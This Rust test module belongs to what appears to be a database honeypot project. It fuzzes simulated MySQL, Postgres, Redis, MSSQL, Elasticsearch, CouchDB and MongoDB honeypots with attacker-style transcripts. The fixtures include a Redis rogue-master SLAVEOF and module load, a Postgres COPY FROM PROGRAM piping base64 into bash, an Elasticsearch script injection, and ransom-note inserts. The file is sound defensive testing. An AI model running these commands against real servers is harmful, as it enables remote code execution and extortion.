//! An in-memory client for session machines: tests drive a [`Session`]
//! through the same [`Conversation`] and the same read rule
//! ([`read_step`]) as decoy-fleet's socket shell, with byte buffers in
//! place of a socket.

use crate::logging::SessionLogger;
use crate::session::{Conversation, Session};
use decoy_base::time::Clock;
use decoy_store::{Event, EventKind, EventStore, HoneypotId};
use decoy_wire::buf::RecvBuf;
use decoy_wire::codec::{read_step, Codec, ReadStep};
use decoy_wire::error::NetResult;
use std::net::Ipv4Addr;
use std::sync::Arc;

/// One connection to a session machine, seen from a client that speaks
/// codec `C`.
pub struct Driver<S: Session, C> {
    /// `None` once the session has ended.
    session: Option<Conversation<S>>,
    server: S::Codec,
    client: C,
    /// Client bytes the session has not decoded yet.
    inbound: RecvBuf,
    /// Reply bytes the client has not read yet.
    replies: RecvBuf,
}

impl<S: Session, C: Codec> Driver<S, C> {
    /// Connect to `machine`, logging into `store` as honeypot `id` from
    /// 127.0.0.1 on a simulated clock.
    pub fn connect(machine: S, store: &Arc<EventStore>, id: HoneypotId, client: C) -> Self {
        let peer = Ipv4Addr::LOCALHOST.into();
        let log = SessionLogger::new(Arc::clone(store), id, Clock::simulated(), 1, peer, None);
        let mut driver = Driver {
            server: machine.codec(),
            session: Some(Conversation::open(machine, log)),
            client,
            inbound: RecvBuf::default(),
            replies: RecvBuf::default(),
        };
        driver.pump(false);
        driver
    }

    /// Send raw bytes, as one client write.
    pub fn write(&mut self, bytes: &[u8]) {
        self.inbound.extend_from_slice(bytes);
        self.pump(false);
    }

    /// Encode `frame` with the client's codec and send it.
    pub fn send(&mut self, frame: &C::Out) {
        let mut bytes = Vec::new();
        self.client.encode(frame, &mut bytes).unwrap();
        self.write(&bytes);
    }

    /// Read one reply as a socket client's `read_frame` would: `Ok(None)`
    /// once the session has closed and every reply was read.
    pub fn read(&mut self) -> NetResult<Option<C::In>> {
        match read_step(&mut self.client, &mut self.replies, self.session.is_none())? {
            ReadStep::Frame(frame) => Ok(Some(frame)),
            ReadStep::End => Ok(None),
            ReadStep::More => panic!("the client waits for a reply the session never wrote"),
        }
    }

    /// The next reply, which must have been written.
    pub fn recv(&mut self) -> C::In {
        self.read().unwrap().unwrap()
    }

    /// Send `frame` and read its reply.
    pub fn roundtrip(&mut self, frame: &C::Out) -> C::In {
        self.send(frame);
        self.recv()
    }

    /// The client hangs up: the session applies the end-of-stream rule to
    /// the bytes it has not decoded, then logs its disconnect.
    pub fn close(mut self) {
        self.pump(true);
    }

    /// Write the session's replies and hand it every whole frame until it
    /// needs more bytes than arrived or ends. `eof`: the client has hung
    /// up. A reply its own codec cannot encode panics: a machine pushes
    /// only what it can send.
    fn pump(&mut self, eof: bool) {
        while let Some(session) = self.session.as_mut() {
            let mut wire = Vec::new();
            for reply in session.replies() {
                if let Err(e) = self.server.encode(&reply, &mut wire) {
                    panic!("a reply failed to encode: {e}");
                }
            }
            self.replies.extend_from_slice(&wire);
            if !session.is_open() {
                break;
            }
            let read = match read_step(&mut self.server, &mut self.inbound, eof) {
                Ok(ReadStep::More) => return,
                Ok(ReadStep::Frame(frame)) => Ok(Some(frame)),
                Ok(ReadStep::End) => Ok(None),
                Err(e) => Err(e),
            };
            session.read(read, &self.inbound);
        }
        if let Some(session) = self.session.take() {
            session.close(Ok(()));
        }
    }
}

/// Every login attempt logged in `store`, as `(username, password)`.
pub fn logins(store: &EventStore) -> Vec<(String, String)> {
    let login = |e: Event| match e.kind {
        EventKind::LoginAttempt {
            username, password, ..
        } => Some((username, password)),
        _ => None,
    };
    store.all().into_iter().filter_map(login).collect()
}

/// The mutation campaign over every session machine: hostile variants of
/// each machine's client transcripts, drawn by `decoy_base::rng::mutate`
/// and cut in two reads at a drawn offset, run through [`Driver`] from
/// connect to hang-up. No case may panic, every reply must encode with the
/// machine's own codec (the driver panics on one that does not), and each
/// session's events must open with `Connect` and end with `Disconnect`.
/// Attacker-shaped frames reach the handlers this way: docdb's filter
/// matching, Elasticpot's rules and `mask::normalize_action` on every
/// logged command.
mod campaign {
    use super::Driver;
    use crate::couch_med::CouchHoneypot;
    use crate::elastic::{ElasticPot, ResponseBook};
    use crate::low::{LowMssql, LowMySql, LowPostgres, LowRedis};
    use crate::mongo_high::MongoHoneypot;
    use crate::mysql_med::MySqlHoneypot;
    use crate::pg_med::StickyElephant;
    use crate::redis_med::RedisHoneypot;
    use crate::session::Session;
    use decoy_base::json::object;
    use decoy_base::rng::{for_all, mutate, Rng};
    use decoy_store::{ConfigVariant, Dbms, EventKind, EventStore, HoneypotId, InteractionLevel};
    use decoy_wire::codec::{Codec, RawCodec};
    use decoy_wire::http::{HttpClientCodec, HttpRequest};
    use decoy_wire::mongo::bson::{doc, Bson};
    use decoy_wire::mongo::{MongoBody, MongoCodec, MongoMessage};
    use decoy_wire::mysql::{LoginRequest, MySqlCodec, MySqlPacket};
    use decoy_wire::pgwire::{FrontendMessage, PgClientCodec};
    use decoy_wire::resp::{RespCodec, RespValue};
    use decoy_wire::tds::{self, Login7, TdsCodec, TdsPacket};

    /// Sessions per machine configuration.
    const CASES: u64 = 2_000;

    fn run<S: Session + Clone>(seed: u64, machine: S, id: HoneypotId, transcripts: &[Vec<u8>]) {
        let gen = |rng: &mut Rng| {
            let bytes = mutate(rng, transcripts);
            let cut = rng.gen_range(0..=bytes.len());
            (bytes, cut)
        };
        for_all(seed, CASES, gen, |(bytes, cut)| {
            let store = EventStore::new();
            let mut client = Driver::connect(machine.clone(), &store, id, RawCodec);
            let (first, rest) = bytes.split_at(*cut);
            client.write(first);
            client.write(rest);
            client.close();
            let events = store.all();
            let first = events.first().map(|e| &e.kind);
            let last = events.last().map(|e| &e.kind);
            assert!(matches!(first, Some(EventKind::Connect)), "{events:?}");
            assert!(matches!(last, Some(EventKind::Disconnect)), "{events:?}");
        });
    }

    /// One client transcript: `frames` encoded in order.
    fn transcript<C: Codec>(mut codec: C, frames: &[C::Out]) -> Vec<u8> {
        let mut bytes = Vec::new();
        for frame in frames {
            codec.encode(frame, &mut bytes).unwrap();
        }
        bytes
    }

    fn id(dbms: Dbms, level: InteractionLevel, config: ConfigVariant) -> HoneypotId {
        HoneypotId::new(dbms, level, config, 0)
    }

    fn redis(commands: &[&[&str]]) -> Vec<u8> {
        let frames: Vec<RespValue> = commands.iter().map(|c| RespValue::command(c)).collect();
        transcript(RespCodec::client(), &frames)
    }

    fn mysql_login(seq: u8, user: &str, password: &str) -> MySqlPacket {
        MySqlPacket {
            seq,
            payload: LoginRequest::cleartext(user, password, Some("mysql")).build(),
        }
    }

    fn pg_session(user: &str, queries: &[&str]) -> Vec<u8> {
        let mut frames = vec![
            FrontendMessage::SslRequest,
            FrontendMessage::Startup {
                params: vec![("user".into(), user.into())],
            },
            FrontendMessage::Password("postgres".into()),
        ];
        frames.extend(
            queries
                .iter()
                .map(|q| FrontendMessage::Query(q.to_string())),
        );
        frames.push(FrontendMessage::Terminate);
        transcript(PgClientCodec::new(), &frames)
    }

    fn http(requests: &[HttpRequest]) -> Vec<u8> {
        transcript(HttpClientCodec, requests)
    }

    #[test]
    fn low_machines_survive_mutants() {
        let low = |dbms| id(dbms, InteractionLevel::Low, ConfigVariant::MultiService);
        let mysql = [
            mysql_login(1, "root", "aaaaaa"),
            mysql_login(1, "admin", ""),
        ];
        let mysql = mysql.map(|login| transcript(MySqlCodec, &[login]));
        run(0x10, LowMySql, low(Dbms::MySql), &mysql);
        let pg = [
            pg_session("postgres", &[]),
            pg_session("admin", &["SELECT 1"]),
        ];
        run(0x11, LowPostgres::default(), low(Dbms::Postgres), &pg);
        let resp = [
            redis(&[&["KEYS", "*"], &["AUTH", "hunter2"], &["PING"], &["QUIT"]]),
            b"JDWP-Handshake\r\nPING\r\n".to_vec(),
        ];
        run(0x12, LowRedis, low(Dbms::Redis), &resp);
        let login = Login7 {
            hostname: "kali".into(),
            username: "sa".into(),
            password: "123".into(),
            appname: "sqlbrute".into(),
            servername: "victim".into(),
            database: String::new(),
        };
        let prelogin = TdsPacket::eom(tds::PKT_PRELOGIN, tds::build_prelogin(&[]));
        let login = TdsPacket::eom(tds::PKT_LOGIN7, login.build());
        let mssql = [transcript(TdsCodec, &[prelogin, login])];
        run(0x13, LowMssql, low(Dbms::Mssql), &mssql);
    }

    #[test]
    fn redis_machine_survives_mutants() {
        let transcripts = [
            redis(&[
                &["SET", "x", "hello"],
                &["GET", "x"],
                &["KEYS", "*"],
                &["TYPE", "x"],
                &["HSET", "h", "f", "v"],
                &["HGETALL", "h"],
                &["RPUSH", "q", "a", "b"],
                &["LRANGE", "q", "0", "-1"],
                &["DEL", "x", "h"],
            ]),
            redis(&[
                &["INFO", "server"],
                &["CONFIG", "SET", "dir", "/var/spool/cron/"],
                &["CONFIG", "GET", "*"],
                &["SLAVEOF", "198.51.100.3", "8886"],
                &["MODULE", "LOAD", "/tmp/exp.so"],
                &["system.exec", "id"],
                &["SELECT", "3"],
                &["AUTH", "acluser", "aclpass"],
                &["QUIT"],
            ]),
            b"PING\r\nECHO hi\r\n".to_vec(),
        ];
        let medium = |config| id(Dbms::Redis, InteractionLevel::Medium, config);
        let empty = RedisHoneypot::default();
        run(0x20, empty, medium(ConfigVariant::Default), &transcripts);
        let fake = RedisHoneypot::with_fake_data(decoy_fakedata::fake_redis_entries(7));
        run(0x21, fake, medium(ConfigVariant::FakeData), &transcripts);
    }

    #[test]
    fn sql_machines_survive_mutants() {
        let packet = |payload: &[u8]| MySqlPacket {
            seq: 0,
            payload: payload.to_vec().into(),
        };
        let mysql = [
            transcript(
                MySqlCodec,
                &[
                    mysql_login(1, "root", "toor"),
                    packet(b"\x03SELECT @@version"),
                    packet(b"\x03CREATE TABLE pwn(cmd text)"),
                    packet(b"\x0e"),
                    packet(b"\x03FROBNICATE"),
                    packet(b"\x01"),
                ],
            ),
            transcript(MySqlCodec, &[mysql_login(1, "admin", "")]),
        ];
        let medium = |dbms, config| id(dbms, InteractionLevel::Medium, config);
        let my = medium(Dbms::MySql, ConfigVariant::Default);
        run(0x30, MySqlHoneypot::default(), my, &mysql);
        let pg = [
            pg_session(
                "postgres",
                &[
                    "SELECT version();",
                    "COPY t FROM PROGRAM 'echo aGk= | base64 -d | bash';",
                    "ALTER USER postgres WITH NOSUPERUSER",
                    "SHOW ssl",
                ],
            ),
            pg_session("admin", &["BEGIN", "FROBNICATE", ""]),
        ];
        let open = medium(Dbms::Postgres, ConfigVariant::Default);
        run(0x31, StickyElephant::new(true), open, &pg);
        let disabled = medium(Dbms::Postgres, ConfigVariant::LoginDisabled);
        run(0x32, StickyElephant::new(false), disabled, &pg);
    }

    #[test]
    fn http_machines_survive_mutants() {
        let (get, json) = (|target| HttpRequest::new("GET", target), "application/json");
        let script = r#"{"script_fields":{"exp":{"script":"Runtime.getRuntime()"}}}"#;
        let elastic = [
            http(&[
                get("/"),
                get("/_cluster/health"),
                get("/_cat/indices"),
                HttpRequest::new("POST", "/_search").with_body(json, script),
                HttpRequest::new("PUT", "/pwned/_doc/1").with_body(json, r#"{"ransom":"pay up"}"#),
                HttpRequest::new("DELETE", "/pwned"),
            ]),
            http(&[HttpRequest::new("POST", "/index.php").with_body(
                "application/x-www-form-urlencoded",
                decoy_store::foreign::craftcms_probe_body(),
            )]),
        ];
        let medium = |dbms, config| id(dbms, InteractionLevel::Medium, config);
        let book = ResponseBook::new().with_rule("GET", "/secret*", 403, object([]));
        let es = medium(Dbms::Elastic, ConfigVariant::Default);
        run(0x40, ElasticPot::with_book(book), es, &elastic);
        let note = r#"{"note":"send 0.01 BTC","paid":false,"n":1.5}"#;
        let couch = [
            http(&[
                get("/"),
                get("/_all_dbs"),
                get("/customers/_all_docs"),
                get("/customers/customer:0"),
                HttpRequest::new("DELETE", "/customers"),
                HttpRequest::new("PUT", "/warning/readme").with_body(json, note),
            ]),
            http(&[get("/_utils/"), HttpRequest::new("PUT", "/fresh")]),
        ];
        let hp = CouchHoneypot::with_fake_customers(12, 10);
        let fake = medium(Dbms::CouchDb, ConfigVariant::FakeData);
        run(0x41, hp, fake, &couch);
    }

    #[test]
    fn mongo_machine_survives_mutants() {
        let filter = doc! {
            "name" => doc! { "$regex" => "^J" },
            "city" => doc! { "$in" => vec![Bson::from("Austin")] },
        };
        let deletes = vec![Bson::Document(doc! { "q" => doc! { "name" => "x" } })];
        let ransom = vec![Bson::Document(doc! { "content" => "pay 0.0058 BTC" })];
        let legacy = MongoMessage {
            request_id: 9,
            response_to: 0,
            body: MongoBody::Query {
                collection: "customers.records".into(),
                skip: 0,
                limit: 0,
                query: doc! { "phone" => doc! { "$exists" => true } },
            },
        };
        let commands = [
            doc! { "isMaster" => 1i32, "$db" => "admin" },
            doc! { "listDatabases" => 1i32, "$db" => "admin" },
            doc! { "listCollections" => 1i32, "$db" => "customers" },
            doc! { "find" => "records", "$db" => "customers", "filter" => filter, "limit" => 5i32 },
            doc! { "count" => "records", "$db" => "customers", "query" => doc! { "name" => "x" } },
            doc! { "delete" => "records", "$db" => "customers", "deletes" => deletes },
            doc! { "drop" => "records", "$db" => "customers" },
            doc! { "insert" => "README", "$db" => "customers", "documents" => ransom },
            doc! { "aggregate" => "README", "$db" => "customers" },
            doc! { "saslStart" => 1i32, "user" => "admin", "$db" => "admin" },
        ];
        let msgs: Vec<MongoMessage> = (1..)
            .zip(commands)
            .map(|(n, c)| MongoMessage::msg(n, c))
            .collect();
        let transcripts = [
            transcript(MongoCodec, &msgs),
            transcript(MongoCodec, &[legacy]),
        ];
        let high = id(
            Dbms::MongoDb,
            InteractionLevel::High,
            ConfigVariant::FakeData,
        );
        run(
            0x50,
            MongoHoneypot::with_fake_customers(42, 25),
            high,
            &transcripts,
        );
    }
}
